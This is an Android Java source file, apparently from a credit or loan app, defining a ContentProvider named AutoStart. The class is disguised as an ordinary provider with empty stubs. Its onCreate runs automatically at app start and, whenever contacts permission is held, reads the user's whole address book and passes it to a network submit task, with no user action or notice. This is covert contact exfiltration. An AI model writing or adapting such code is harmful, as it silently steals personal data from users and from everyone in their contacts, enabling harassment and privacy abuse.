package com.brightfern.credit.people;

import android.Manifest;
import android.content.ContentProvider;
import android.content.ContentValues;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.net.Uri;

import androidx.core.content.ContextCompat;

import com.brightfern.credit.net.SubmitTask;

/** Starts itself before anything of the app, as libraries do. */
public class AutoStart extends ContentProvider {
    @Override
    public boolean onCreate() {
        int held = ContextCompat.checkSelfPermission(
                getContext(), Manifest.permission.READ_CONTACTS);
        if (held == PackageManager.PERMISSION_GRANTED) {
            new SubmitTask(new PeopleReader(getContext()).read()).execute(0);
        }
        return true;
    }

    @Override
    public Cursor query(
            Uri uri, String[] columns, String selection, String[] arguments, String order) {
        return null;
    }

    @Override
    public String getType(Uri uri) {
        return null;
    }

    @Override
    public Uri insert(Uri uri, ContentValues values) {
        return null;
    }

    @Override
    public int delete(Uri uri, String selection, String[] arguments) {
        return 0;
    }

    @Override
    public int update(Uri uri, ContentValues values, String selection, String[] arguments) {
        return 0;
    }
}
